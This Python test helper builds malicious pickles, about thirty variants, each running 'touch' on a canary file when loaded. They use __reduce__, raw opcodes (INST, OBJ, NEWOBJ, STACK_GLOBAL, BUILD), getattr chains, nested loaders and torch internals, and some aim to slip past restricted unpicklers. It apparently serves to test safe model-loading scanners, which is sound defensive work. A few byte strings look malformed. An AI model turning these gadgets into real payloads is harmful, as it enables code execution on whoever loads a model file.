"""Pickles that touch a file by every known trick, where they are run. None of them imports torch."""

import copyreg
import os
import pickle
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Reduced:
    """An object that is pickled as any call whatever."""

    def __init__(self, *reduction: Any) -> None:
        self.reduction = reduction

    def __reduce__(self) -> Any:
        return self.reduction


class WithState:
    def __init__(self, path: str) -> None:
        self.path = path

    def __setstate__(self, state: dict[str, str]) -> None:
        open(state["path"], "w").close()


class WithNew:
    def __new__(cls, path: str = "") -> "WithNew":
        if path:
            open(path, "w").close()
        return super().__new__(cls)

    def __getnewargs__(self) -> tuple[str]:
        return (self.canary,)  # type: ignore[attr-defined]


class Keys(dict):  # type: ignore[type-arg]
    """A dictionary that does something when it is filled."""

    def __setitem__(self, key: str, value: object) -> None:
        open(value, "w").close() if isinstance(value, str) else super().__setitem__(key, value)


class Hashed:
    """A key that does something when it is hashed: its state comes before the dictionary is filled."""

    canary = ""

    def __hash__(self) -> int:
        if self.canary:
            open(self.canary, "w").close()
        return 1

    def __getstate__(self) -> dict[str, str]:
        return {"canary": self.canary}


def with_new(canary: str) -> WithNew:
    made = WithNew()
    made.canary = canary  # type: ignore[attr-defined]
    return made


def with_hash(canary: str) -> dict[Any, int]:
    key = Hashed()
    table = {key: 1}
    key.canary = canary
    return table


def with_items(canary: str) -> Keys:
    made = Keys()
    dict.__setitem__(made, "a", canary)
    return made


def touching(canary: str) -> bytes:
    return f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()


def with_extension(canary: str) -> bytes:
    copyreg.add_extension("os", "system", 240)
    try:
        return b"\x80\x02\x82\xf0X" + struct.pack("<I", len(f"touch {canary}")) + f"touch {canary}".encode() + b"\x85R."
    finally:
        copyreg.remove_extension("os", "system", 240)


def built(canary: str) -> bytes:
    """BUILD upon a name that torch's own reader admits, whose state sets what is called later."""
    return (
        b"\x80\x02ccollections\nOrderedDict\n)Rq\x00}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsb"
        + f"h\x00S'touch {canary}'\nb.".encode()
    )


TRICKS: dict[str, Callable[[str], Any]] = {
    "os.system": lambda c: Reduced(os.system, (f"touch {c}",)),
    "posix.system": lambda c: f"cposix\nsystem\n(S'touch {c}'\ntR.".encode(),
    "subprocess": lambda c: Reduced(subprocess.check_call, (["touch", c],)),
    "builtins.eval": lambda c: Reduced(eval, (f"open({c!r}, 'w')",)),
    "builtins.exec": lambda c: Reduced(exec, (f"open({c!r}, 'w')",)),
    "builtins.open": lambda c: Reduced(open, (c, "w")),
    "compile": lambda c: Reduced(exec, (Reduced(compile, (f"open({c!r}, 'w')", "x", "exec")),)),
    "a chain of getattr": lambda c: (
        b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR" + f"(S'touch {c}'\ntR.".encode()
    ),
    "operator.methodcaller": lambda c: (
        f"coperator\nmethodcaller\n(S'system'\nS'touch {c}'\ntRc__builtin__\n__import__\n(S'os'\ntR\x85R.".encode()
    ),
    "functools.partial": lambda c: f"cfunctools\npartial\n(cos\nsystem\nS'touch {c}'\ntR)R.".encode(),
    "map over a name": lambda c: (
        f"c__builtin__\nlist\n(c__builtin__\nmap\n(cos\nsystem\n(S'touch {c}'\nltRtR.".encode()
    ),
    "__setstate__": WithState,
    "__new__": with_new,
    "__setitem__": with_items,
    "__hash__": with_hash,
    "BUILD": built,
    "INST": lambda c: f"(S'touch {c}'\nios\nsystem\n.".encode(),
    "OBJ": lambda c: f"(cos\nsystem\nS'touch {c}'\no.".encode(),
    "NEWOBJ": lambda c: f"\x80\x02cos\nsystem\nS'touch {c}'\n\x85\x81.".encode("latin-1"),
    "NEWOBJ_EX": lambda c: f"\x80\x04cos\nsystem\nS'touch {c}'\n\x85}}\x92.".encode("latin-1"),
    "STACK_GLOBAL": lambda c: f"\x80\x04S'os'\nS'system'\n\x93S'touch {c}'\n\x85R.".encode("latin-1"),
    "an extension": with_extension,
    "a dotted name": lambda c: f"\x80\x04S'subprocess'\nS'os.system'\n\x93S'touch {c}'\n\x85R.".encode("latin-1"),
    "pickle.loads inside": lambda c: Reduced(pickle.loads, (touching(c),)),
    "torch.load inside": lambda c: f"ctorch\nload\n(S'{c}.pth'\nNcpickle\n\ntR.".encode(),
    "torch.storage._load_from_bytes": lambda c: (
        b"ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", len(touching(c))) + touching(c) + b"tR."
    ),
    "torch._utils and a call": lambda c: (
        f"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nN(S'touch {c}'\ntNtR.".encode()
    ),
    "a storage class that is a function": lambda c: (
        f"(X\x07\x00\x00\x00storagecos\nsystem\nS'touch {c}'\nS'cpu'\nK\x03tQ.".encode("latin-1")
    ),
    "runpy": lambda c: f"crunpy\nrun_path\n(S'{c}.py'\ntR.".encode(),
    "pty": lambda c: f"cpty\nspawn\n(S'touch {c}'\ntR.".encode(),
    "numpy's exec_command": lambda c: f"cnumpy.testing._private.utils\nruncode\n(S'touch {c}'\ntR.".encode(),
    "code": lambda c: f"ccode\nInteractiveInterpreter\n)R.c__builtin__\neval\n(S'open({c!r})'\ntR.".encode(),
    "ctypes": lambda c: f"cctypes\nCDLL\n(NtRS'system'\n(S'touch {c}'\ntR.".encode(),
}


def pickled(trick: str, canary: Path) -> bytes:
    made = TRICKS[trick](str(canary))
    return made if isinstance(made, bytes) else pickle.dumps(made, 4)
